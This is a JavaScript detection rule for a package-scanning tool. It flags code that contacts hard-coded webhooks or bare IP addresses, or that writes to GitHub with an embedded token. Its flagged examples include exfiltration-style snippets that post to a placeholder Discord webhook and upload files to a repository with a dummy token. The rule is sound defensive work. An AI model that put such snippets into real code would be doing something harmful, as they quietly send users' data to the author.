import { defineRule, oddTargetOf, sinkSays, step } from '../src/define.js';

/** Where a repository, a note or a thread is written to. */
const WRITES_TO =
  /\/\/api\.github\.com\/(?:gists|repos\/.{1,200}\/(?:contents|issues|git|releases))|^\/(?:gists|repos\/.{1,200}\/(?:contents|issues|git))/;
/** A token of whoever wrote the code, spelled out. */
const TOKEN = /\b(?:gh[pousr]_[A-Za-z0-9]{30,}|github_pat_\w{30,})/;

export default defineRule({
  meta: {
    summary: 'Contacts an address nobody’s name stands behind',
    why: 'Request catchers, tunnels, paste sites, chat webhooks and bare IP addresses cost nothing and name nobody. A chat library posts to webhooks its user configures; an address that is fixed in the code is the author’s.',
    behaviour: 'capability',
    messages: {
      token: 'Writes to a repository or a note with a token that stands in its code',
      contacted: 'Contacts {address}, fixed in its code',
    },
    bits: { token: 11.5, contacted: 4 },
  },
  examples: {
    flags: [
      {
        title: 'a chat webhook is fixed in the code',
        code: `fetch('https://discord.com/api/webhooks/1/x', { method: 'POST', body: 'hi' });`,
      },
      { title: 'so is an IP address', code: `require('http').get({ host: '203.0.113.7', path: '/a' });` },
      {
        title: 'a file goes into somebody’s repository',
        code: `fetch('https://api.github.com/repos/a/b/contents/' + Date.now(), { method: 'PUT', headers: { Authorization: 'token ghp_000000000000000000000000000000000000' }, body: JSON.stringify({ content }) });`,
      },
    ],
    passes: [
      {
        title: 'the token of a repository is its user’s',
        code: `fetch('https://api.github.com/repos/a/b/contents/x', { method: 'PUT', headers: { Authorization: 'token ' + process.env.GITHUB_TOKEN }, body });`,
      },
      { title: 'the webhook is configured', code: `fetch(process.env.WEBHOOK, { method: 'POST' });` },
      { title: 'an address is the local machine', code: `require('http').get('http://127.0.0.1:3000');` },
      { title: 'a version looks like an address', code: `fetch('https://cdn.invalid/lib/1.2.3.4/x.js');` },
    ],
  },
  file(context) {
    for (const call of context.calls('network')) {
      const texts = call.args.flatMap(arg => context.textsWithin(arg));
      if (texts.some(text => WRITES_TO.test(text)) && texts.some(text => TOKEN.test(text))) {
        context.report({
          messageId: 'token',
          chain: [step('sink', sinkSays(call), context.file, call.node)],
        });
        return;
      }
      const address = oddTargetOf(context, call);
      if (!address) continue;
      context.report({
        messageId: 'contacted',
        data: { address },
        chain: [step('sink', sinkSays(call), context.file, call.node)],
      });
      return;
    }
  },
});
